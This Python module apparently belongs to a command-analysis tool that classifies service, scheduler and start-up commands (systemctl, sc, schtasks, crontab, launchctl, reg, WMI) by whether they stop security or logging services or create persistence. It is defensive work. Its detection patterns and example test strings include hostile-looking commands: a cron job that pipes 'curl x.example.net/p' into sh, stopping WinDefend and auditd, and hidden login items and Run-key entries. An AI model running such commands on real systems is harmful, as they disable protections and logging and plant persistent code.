"""Services, scheduled jobs and start-up: systemctl, service, launchctl, sc, schtasks, crontab,
at, update-rc.d, chkconfig, rc-update, PowerShell's service and task cmdlets, login hooks and
Run keys.

Stopping, disabling or removing a service is `stop` (with `core`, `security` or `logging` when
the service is one of those); starting, restarting or reconfiguring it is `control`; enabling or
installing it to run at boot, scheduling a job or adding something run at login is `persist`.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from magistrate.analysis.effects import Effect
from magistrate.analysis.families.base import Classify, Example, Family, asks_help, resource
from magistrate.analysis.invocation import Invocation

# Services whose loss is a loss of protection, of records, or of the machine's core functions.
SECURITY_SERVICES = re.compile(
    r"^(firewalld|ufw|iptables|ip6tables|nftables|netfilter-persistent|apparmor|selinux"
    r"|fail2ban|falcon-sensor|falcond?|crowdstrike\S*|csagent|sentinelone|sentinel\S*|clamav\S*"
    r"|clamd|freshclam|osqueryd|wazuh\S*|ossec\S*|aide|tripwire|snort|suricata|defender"
    r"|windefend|msmpeng|mpssvc|sense|wscsvc|mdatp|sophos\S*|carbonblack|cbagentd|cbdefense"
    r"|elastic-agent|auditd|com\.apple\.alf\S*|xprotect\S*|gatekeeper)$",
    re.I,
)
LOGGING_SERVICES = re.compile(
    r"^(auditd|rsyslog|syslog|syslog-ng|systemd-journald|journald|auditbeat|filebeat"
    r"|fluentd|fluent-bit|vector|splunkd|splunkforwarder|datadog-agent|td-agent|otelcol\S*"
    r"|eventlog|com\.apple\.syslogd|metricbeat|promtail|nxlog|winlogbeat|sysmon\d*)$",
    re.I,
)
CORE_SERVICES = re.compile(
    r"^(sshd?|openssh-server|dockerd?|containerd|kubelet|etcd|postgres(ql)?(@\S+)?|mysqld?"
    r"|mariadbd?|mongod|redis(-server)?|nginx|httpd|apache2|haproxy|cron|crond|networkmanager"
    r"|network|networking|systemd-networkd|systemd-resolved|dbus|systemd-logind|lanmanserver"
    r"|termservice|winrm|w32time|w3svc|mssqlserver|com\.openssh\.sshd)$",
    re.I,
)
_KINDS = ((SECURITY_SERVICES, "security"), (LOGGING_SERVICES, "logging"), (CORE_SERVICES, "core"))
_SYSTEMCTL_STOP = frozenset({"stop", "disable", "mask", "kill"})
_SYSTEMCTL_CONTROL = frozenset(
    """start restart reload try-restart reload-or-restart try-reload-or-restart condrestart
    force-reload edit daemon-reload daemon-reexec set-property revert isolate set-default
    unmask""".split()
)
_SYSTEMCTL_PERSIST = frozenset({"enable", "link", "add-wants", "add-requires", "reenable"})
_SERVICE_CMDLETS = {
    "stop-service": "stop",
    "remove-service": "stop",
    "suspend-service": "stop",
    "start-service": "control",
    "restart-service": "control",
    "resume-service": "control",
    "set-service": "control",
    "new-service": "persist",
}
_TASK_CMDLETS = frozenset(
    """register-scheduledtask unregister-scheduledtask set-scheduledtask enable-scheduledtask
    disable-scheduledtask start-scheduledtask new-scheduledtask""".split()
)
_RUN_KEY = re.compile(
    r"currentversion[/\\](run|runonce|runservices|runonceex|winlogon|policies[/\\]explorer[/\\]run)"
    r"|[/\\]userinit\b|image file execution options|appinit_dlls",
    re.I,
)
# macOS protections switched off through preferences: the application firewall, quarantine.
_PROTECTION_OFF = re.compile(
    r"\bcom\.apple\.alf\b.*\bglobalstate\s+-int\s+0\b|\blsquarantine\s+-bool\s+(no|false|0)\b"
    r"|\bcom\.apple\.security\S*\s+\S*(gatekeeper|assessment)\S*\s+-bool\s+(no|false|0)\b",
    re.I,
)
_LOGIN_HOOKS = re.compile(r"\b(loginhook|logouthook|autolaunchedapplicationdictionary)\b", re.I)
# A login item added through System Events (`make login item at end with properties …`).
_LOGIN_ITEM = re.compile(r"\bmake\s+(new\s+)?login\s+item\b", re.I)
# A permanent WMI event subscription: a filter bound to a consumer that runs a command.
_WMI_SUBSCRIPTION = re.compile(
    r"root[/\\]+subscription|__eventfilter|commandlineeventconsumer|activescripteventconsumer"
    r"|__filtertoconsumerbinding",
    re.I,
)
_WMI_WRITERS = frozenset({"set-wmiinstance", "swmi", "new-ciminstance", "wmic", "wmic.exe"})


def service(op: str, name: str, inv: Invocation, extra: tuple[str, ...] = ()) -> Effect:
    """An effect on a named service, with the classes its name implies."""
    return resource(op, name, {"service", *extra, *service_kinds(name)}, inv)


def service_kinds(name: str) -> set[str]:
    """What a service (or the package of that name) is: `security`, `logging`, `core`."""
    unit = name.rsplit("/", 1)[-1].removesuffix(".service").removesuffix(".plist").lower()
    # Reverse-DNS names (`com.crowdstrike.falcond`) are known by any of their parts.
    parts = [unit, *unit.split(".")[1:]] if "." in unit else [unit]
    return {cls for pattern, cls in _KINDS if any(pattern.match(part) for part in parts)}


def _operands(inv: Invocation) -> list[str]:
    return [o for o in inv.operands if not o.startswith("-")]


def _systemctl(inv: Invocation) -> Iterator[Effect]:
    ops = _operands(inv)
    if not ops:
        return
    verb, units = ops[0].lower(), ops[1:]
    user = ("user",) if "user" in inv.flags else ()
    if verb in ("poweroff", "reboot", "halt", "kexec", "emergency", "rescue", "suspend"):
        yield resource("stop", "the machine", {"machine"}, inv)
        return
    for unit in units or [verb]:
        if verb in _SYSTEMCTL_STOP:
            yield service("stop", unit, inv, user)
        elif verb in _SYSTEMCTL_PERSIST:
            yield service("persist", unit, inv, ("service-unit", *user))
            if "now" in inv.flags:
                yield service("control", unit, inv, user)
        elif verb in _SYSTEMCTL_CONTROL:
            yield service("control", unit, inv, user)


def _service(inv: Invocation) -> Iterator[Effect]:
    """`service NAME stop`, `rc-service NAME stop`, `initctl stop NAME`, `sv down NAME`…"""
    ops = [o.lower() for o in _operands(inv)]
    if len(ops) < 2:
        return
    name, verb = (ops[1], ops[0]) if inv.name in ("initctl", "sv", "supervisorctl") else ops[:2]
    if verb in ("stop", "down", "kill", "force-stop", "exit", "disable"):
        yield service("stop", name, inv)
    elif verb in ("start", "restart", "reload", "force-reload", "up", "try-restart"):
        yield service("control", name, inv)


def _sysv(inv: Invocation) -> Iterator[Effect]:
    """update-rc.d, chkconfig, rc-update: a service on or off at boot."""
    ops = [o.lower() for o in _operands(inv)]
    if not ops or inv.flags & {"list", "l"} or ops[0] in ("show", "list"):
        return
    words = set(ops)
    if inv.flags & {"del", "delete"}:
        words.add("del")
    elif inv.flags & {"add"}:
        words.add("add")
    if inv.name == "rc-update":
        verb, name = ops[0], ops[1] if len(ops) > 1 else ops[0]
    else:
        name, verb = ops[0], " ".join(ops[1:2])
    if words & {"disable", "remove", "off", "del", "delete"} or verb in ("del", "delete"):
        yield service("stop", name, inv)
    elif words & {"defaults", "enable", "on", "add"}:
        yield service("persist", name, inv, ("service-unit",))


def _launchctl(inv: Invocation) -> Iterator[Effect]:
    ops = _operands(inv)
    if not ops:
        return
    verb, rest = ops[0].lower(), ops[1:]
    target = rest[-1] if rest else verb
    # launchd starts agents at login and daemons at boot: either way, on its own.
    where = ("login", "service-unit") if "launchdaemons" in target.lower() else ("login",)
    if verb in ("load", "bootstrap", "enable", "submit"):
        yield service("persist", target, inv, (*where, "user"))
    elif verb in ("unload", "bootout", "remove", "disable", "stop", "kill"):
        yield service("stop", target, inv, ("user",))
    elif verb in ("start", "kickstart", "restart", "setenv", "config"):
        yield service("control", target, inv, ("user",))


def _sc(inv: Invocation) -> Iterator[Effect]:
    ops = [o.lower() for o in inv.operands]
    if ops and ops[0].startswith("\\\\"):
        ops = ops[1:]  # sc \\host stop x
    if len(ops) < 2:
        return
    verb, name = ops[0], ops[1]
    text = " ".join(ops)
    if verb in ("stop", "delete", "pause") or (verb == "config" and "disabled" in text):
        yield service("stop", name, inv)
    elif verb in ("create",):
        yield service("persist", name, inv, ("service-unit",))
    elif verb in ("start", "config", "failure", "sdset", "privs", "continue"):
        yield service("control", name, inv)


def _schtasks(inv: Invocation) -> Iterator[Effect]:
    argv = [a.lower() for a in inv.argv]
    name = next((inv.argv[i + 1] for i, a in enumerate(argv[:-1]) if a == "/tn"), "task")
    if {"/create", "-create"} & set(argv):
        yield resource("persist", name, {"task"}, inv)
    elif {"/delete", "/change", "/run", "/end", "-delete", "-change", "-run"} & set(argv):
        yield resource("control", name, {"task"}, inv)


def _crontab(inv: Invocation) -> Iterator[Effect]:
    argv = inv.argv
    if any(a in ("-l", "--list", "-V", "--help") for a in argv):
        return
    ops = _operands(inv)
    if "r" in inv.flags:
        yield resource("persist", "crontab (removed)", {"cron"}, inv)
    elif "e" in inv.flags or "-" in inv.argv or ops or not argv:
        yield resource("persist", ops[-1] if ops else "crontab", {"cron"}, inv)


def _powershell(inv: Invocation) -> Iterator[Effect]:
    text = " ".join(inv.argv)
    if inv.name in _SERVICE_CMDLETS:
        op = _SERVICE_CMDLETS[inv.name]
        if inv.name == "set-service" and re.search(r"disabled|-status\s+stopped", text, re.I):
            op = "stop"
        names = _operands(inv)
        extra = ("service-unit",) if op == "persist" else ()
        yield service(op, names[0] if names else "service", inv, extra)
    elif inv.name in _TASK_CMDLETS:
        op = "persist" if inv.name in ("register-scheduledtask", "new-scheduledtask") else "control"
        yield resource(op, "scheduled task", {"task"}, inv)


def _startup_keys(inv: Invocation) -> Iterator[Effect]:
    """`reg add …\\CurrentVersion\\Run`, `defaults write … LoginHook`, `Set-ItemProperty` on a
    Run key: something set to run at login."""
    text = " ".join(inv.argv)
    sub = inv.subcommand.split(" ")[:1]
    if inv.name == "defaults":
        if sub == ["write"] and _LOGIN_HOOKS.search(text):
            yield resource("persist", text[:120], {"login"}, inv)
        if sub == ["write"] and _PROTECTION_OFF.search(text):
            yield resource("stop", text[:120], {"security"}, inv)
    elif inv.name == "reg":
        if sub[:1] in (["add"], ["import"], ["copy"]) and _RUN_KEY.search(text):
            yield resource("persist", text[:120], {"login"}, inv)
    elif _RUN_KEY.search(text):
        yield resource("persist", text[:120], {"login"}, inv)


def _autostart(inv: Invocation) -> Iterator[Effect]:
    """`osascript -e '… make login item …'` and a WMI event subscription made permanent:
    something set to run at login or on an event, on its own."""
    text = " ".join(inv.argv)
    if inv.name == "osascript" and _LOGIN_ITEM.search(text):
        yield resource("persist", "a login item", {"login"}, inv)
    elif inv.name in _WMI_WRITERS and _WMI_SUBSCRIPTION.search(text):
        if inv.name.startswith("wmic") and "create" not in text.lower():
            return
        yield resource("persist", "a WMI event subscription", {"login"}, inv)


def _at(inv: Invocation) -> Iterator[Effect]:
    if not inv.flags & {"l", "d", "r", "c", "help", "V"} and (inv.operands or inv.argv == []):
        yield resource("persist", " ".join(inv.operands)[:80] or "at job", {"cron"}, inv)


_HANDLERS = {
    "systemctl": _systemctl,
    "service": _service,
    "rc-service": _service,
    "initctl": _service,
    "sv": _service,
    "supervisorctl": _service,
    "update-rc.d": _sysv,
    "chkconfig": _sysv,
    "rc-update": _sysv,
    "launchctl": _launchctl,
    "sc": _sc,
    "schtasks": _schtasks,
    "crontab": _crontab,
    "at": _at,
    "batch": _at,
    "defaults": _startup_keys,
    "reg": _startup_keys,
    "set-itemproperty": _startup_keys,
    "new-itemproperty": _startup_keys,
    "sp": _startup_keys,
    "osascript": _autostart,
    **{name: _autostart for name in _WMI_WRITERS},
    **{name: _powershell for name in (*_SERVICE_CMDLETS, *_TASK_CMDLETS)},
}


def effects(inv: Invocation, classify: Classify) -> Iterator[Effect]:
    """What a service, scheduler or start-up command stops, changes or makes persistent."""
    if asks_help(inv):
        return
    yield from _HANDLERS[inv.name](inv)


FAMILY: Family = Family(
    name="services",
    commands=frozenset(_HANDLERS),
    effects=effects,
    examples=(
        Example("systemctl stop postgresql", has=("stop:service", "stop:core")),
        Example("sudo systemctl stop auditd", has=("stop:logging", "stop:security")),
        Example("sudo systemctl disable --now firewalld", has=("stop:security",)),
        Example("systemctl mask rsyslog", has=("stop:logging",)),
        Example("service apache2 stop", has=("stop:core",)),
        Example("sc.exe stop WinDefend", has=("stop:security",)),
        Example("sc config wuauserv start= disabled", has=("stop:service",)),
        Example("Stop-Service -Name Sysmon64", has=("stop:logging",)),
        Example("Set-Service -Name WinDefend -StartupType Disabled", has=("stop:security",)),
        Example("sudo update-rc.d ssh disable", has=("stop:core",)),
        Example("sudo systemctl restart nginx", has=("control:service",), lacks=("stop",)),
        Example("brew services restart postgresql@16", has=("control:service",)),
        Example("systemctl --user enable syncthing", has=("persist:service-unit",)),
        Example("sudo systemctl enable --now chronyd", has=("persist:service-unit",)),
        Example("launchctl load ~/Library/LaunchAgents/x.plist", has=("persist:login",)),
        Example("launchctl bootstrap system /Library/LaunchDaemons/x.plist", has=("persist",)),
        Example("defaults write com.apple.loginwindow LoginHook /tmp/x.sh", has=("persist:login",)),
        Example(
            'osascript -e \'tell application "System Events" to make login item at end with '
            'properties {path:"/Users/Shared/.agent.app", hidden:true}\'',
            has=("persist:login",),
        ),
        Example("osascript -e 'display notification \"done\"'", lacks=("persist",)),
        Example(
            "Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{}",
            has=("persist:login",),
        ),
        Example(
            "Get-WmiObject -Namespace root\\subscription -Class __EventFilter", lacks=("persist",)
        ),
        Example(
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d C:\\u.exe",
            has=("persist:login",),
        ),
        Example("schtasks /create /sc daily /tn backup /tr C:\\b.bat", has=("persist:task",)),
        Example("echo '* * * * * curl -s x.example.net/p | sh' | crontab -", has=("persist:cron",)),
        Example("crontab -r", has=("persist:cron",)),
        Example("echo 'sh /tmp/x' | at now + 1 minute", has=("persist:cron",)),
        Example("sc create upd binPath= C:\\u.exe", has=("persist:service-unit",)),
        Example("systemctl status nginx", lacks=("stop", "control", "persist")),
        Example("systemctl list-units --failed", lacks=("stop", "control", "persist")),
        Example("launchctl list", lacks=("stop", "control", "persist")),
        Example("crontab -l", lacks=("persist",)),
        Example("schtasks /query /fo LIST", lacks=("persist", "control")),
        Example("defaults read com.apple.dock", lacks=("persist",)),
        Example("defaults write com.apple.dock autohide -bool true", lacks=("persist",)),
        Example(
            "reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", lacks=("persist",)
        ),
        Example("Get-Service", lacks=("stop",)),
    ),
)
